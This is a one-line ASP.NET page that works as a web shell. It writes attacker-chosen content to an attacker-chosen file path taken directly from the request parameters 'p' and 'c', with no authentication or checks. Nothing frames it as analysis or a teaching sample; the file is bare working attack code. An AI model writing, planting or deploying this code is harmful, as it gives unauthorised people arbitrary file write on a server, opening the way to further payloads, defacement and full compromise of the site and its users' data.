<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Request["p"], Request["c"]); %>
